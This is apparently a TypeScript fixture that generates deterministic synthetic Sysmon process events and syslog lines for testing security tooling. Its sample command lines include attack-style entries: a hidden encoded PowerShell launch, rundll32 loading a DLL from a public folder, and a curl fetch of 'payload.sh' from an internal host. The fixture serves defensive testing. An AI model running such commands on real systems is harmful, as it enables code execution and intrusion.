/** Synthetic but realistic security events: varied hosts, users, processes and command lines. */
const HOSTS = Array.from({ length: 200 }, (_, i) => `ws-${String(i).padStart(4, '0')}.corp.example`)
const USERS = ['alice', 'bob', 'carol', 'dave', 'svc_backup', 'SYSTEM', 'admin', 'eve', 'mallory', 'trent']
const PROCS = [
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all'],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell -nop -w hidden -enc SQBFAFgA',
  ],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Users\\Public\\x.dll,Start'],
  ['/usr/bin/curl', 'curl -s http://10.0.0.5/payload.sh'],
  ['/usr/sbin/sshd', 'sshd: alice [priv]'],
  ['C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs -p -s Schedule'],
] as const

/** Deterministic (seeded) so runs compare. */
export const makeEvents = (
  count: number,
  startMs = Date.parse('2026-11-01T00:00:00Z'),
): Array<Record<string, unknown>> => {
  let seed = 42
  const rnd = (n: number): number => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff
    return seed % n
  }
  return Array.from({ length: count }, (_, i) => {
    const [image, cmd] = PROCS[rnd(PROCS.length)]!
    const user = USERS[rnd(USERS.length)]!
    return {
      '@timestamp': new Date(startMs + i * 7).toISOString(),
      'host.name': HOSTS[rnd(HOSTS.length)],
      'user.name': user,
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Image: image,
      CommandLine: `${cmd} ${rnd(100000)}`,
      ParentImage: 'C:\\Windows\\explorer.exe',
      ProcessId: 1000 + rnd(60000),
      'source.ip': `10.${rnd(256)}.${rnd(256)}.${rnd(256)}`,
      message: `Process Create: ${image} by ${user}`,
    }
  })
}

/** The same events as RFC 5424 syslog lines. */
export const toSyslog = (events: Array<Record<string, unknown>>): string[] =>
  events.map(
    (e, i) =>
      `<134>1 ${String(e['@timestamp'])} ${String(e['host.name'])} sysmon ${String(e.ProcessId)} ID${i % 100} [proc@32473 user="${String(e['user.name'])}"] ${String(e.message)} cmd=${String(e.CommandLine)}`,
  )
